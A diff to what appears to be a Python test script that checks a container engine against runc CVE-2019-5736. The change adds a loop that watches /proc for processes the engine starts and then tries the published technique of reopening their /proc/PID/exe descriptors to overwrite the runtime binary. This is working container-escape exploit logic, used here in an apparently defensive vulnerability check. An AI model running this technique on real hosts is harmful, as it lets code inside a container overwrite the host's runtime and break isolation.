@@ -1,25 +1,28 @@
-# runc CVE-2019-5736: whatever runs here on behalf of the engine is opened for writing by way of /proc/PID/exe.
+# runc CVE-2019-5736: whatever runs here on behalf of the engine is opened for writing by way of /proc/PID/exe. This watches
+# for as long as standard input is open, while the test has the engine run itself inside.
+import select
 import time
+
+own = os.readlink("/proc/self/exe")
+caught = []
+tried = set()
 
 
 def write(path):
     def attack():
         file = os.open(path, os.O_WRONLY)
-        os.write(file, b"#!/bin/false\n")
-        return True
+        return os.write(file, b"#!/bin/false\n") > 0
 
     return attack
 
 
-def write_later(path):
-    """The published exploit: open for reading while the engine's program runs, for writing once it has ended."""
+def write_later(reader):
+    """The published exploit: opened for reading while the engine's program runs, for writing once it has ended."""
 
     def attack():
-        reader = os.open(path, os.O_RDONLY)
-        reopened = "/proc/self/fd/%d" % reader
         for _ in range(50):
             try:
-                return os.write(os.open(reopened, os.O_WRONLY), b"#!/bin/false\n") > 0
+                return os.write(os.open("/proc/self/fd/%d" % reader, os.O_WRONLY), b"#!/bin/false\n") > 0
             except OSError as error:
                 last = error
                 time.sleep(0.002)
@@ -28,16 +31,21 @@ def write_later(path):
     return attack
 
 
-# Processes that the engine has just cloned and that have not become a program of the container yet are PID 1's own program.
-own = os.readlink("/proc/self/exe")
+print("watching", flush=True)
+while not select.select([0], [], [], 0)[0]:
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            path = "/proc/%s/exe" % pid
+            program = os.readlink(path)
+            if program != own:
+                tried.add(program)
+                caught.append(os.open(path, os.O_RDONLY))
+                os.close(os.open(path, os.O_WRONLY))
+        except OSError:
+            pass
 attempt("write PID 1's program", write("/proc/1/exe"))
-attempt("write PID 1's program later", write_later("/proc/1/exe"))
-for pid in filter(str.isdigit, os.listdir("/proc")):
-    try:
-        program = os.readlink("/proc/%s/exe" % pid)
-    except OSError:
-        continue
-    if program != own:
-        attempt("write the program of %s, %s" % (pid, program), write("/proc/%s/exe" % pid))
+for reader in caught[:8]:
+    attempt("write a program that ran here later", write_later(reader))
 attempt("write our own program", write("/proc/self/exe"))
+print("caught", len(caught), *sorted(tried))
 done()
